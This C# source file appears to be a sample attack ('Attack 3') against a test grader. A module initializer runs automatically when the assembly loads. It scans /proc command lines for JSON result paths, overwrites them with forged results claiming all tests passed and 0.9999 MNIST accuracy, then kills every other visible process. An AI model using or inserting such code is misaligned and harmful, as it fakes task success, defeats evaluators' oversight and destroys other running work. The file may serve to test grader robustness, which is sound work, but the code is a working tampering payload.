using System.Diagnostics;
using System.Runtime.CompilerServices;

namespace NeuralNet;

// Attack 3: write the results file the grader reads (every JSON path it can guess or find), claim every
// test passed, then stop every process it can see so that nothing overwrites the forgery.
internal static class Forge
{
    [ModuleInitializer]
    internal static void Run()
    {
        const string Forged = """{"aborted":false,"summary":[],"plan":{"1":1},"metrics":{"mnist.accuracy":0.9999},"started":[],"records":{},"tests":[]}""";
        var paths = new List<string> { "__KATA_LOG_DIR__/tests-1.json", "__KATA_LOG_DIR__/tests-2.json" };
        foreach (string dir in SafeDirectories("/proc"))
        {
            try
            {
                paths.AddRange(File.ReadAllText(Path.Combine(dir, "cmdline")).Split('\0', ';', '=').Where(p => p.EndsWith(".json")));
            }
            catch
            {
            }
        }

        foreach (string path in paths.Distinct())
        {
            try
            {
                File.WriteAllText(path, Forged);
            }
            catch
            {
            }
        }

        foreach (Process process in Process.GetProcesses())
        {
            try
            {
                if (process.Id != Environment.ProcessId)
                {
                    process.Kill();
                }
            }
            catch
            {
            }
        }

        Environment.Exit(0);
    }

    private static IEnumerable<string> SafeDirectories(string path)
    {
        try
        {
            return Directory.GetDirectories(path);
        }
        catch
        {
            return [];
        }
    }
}
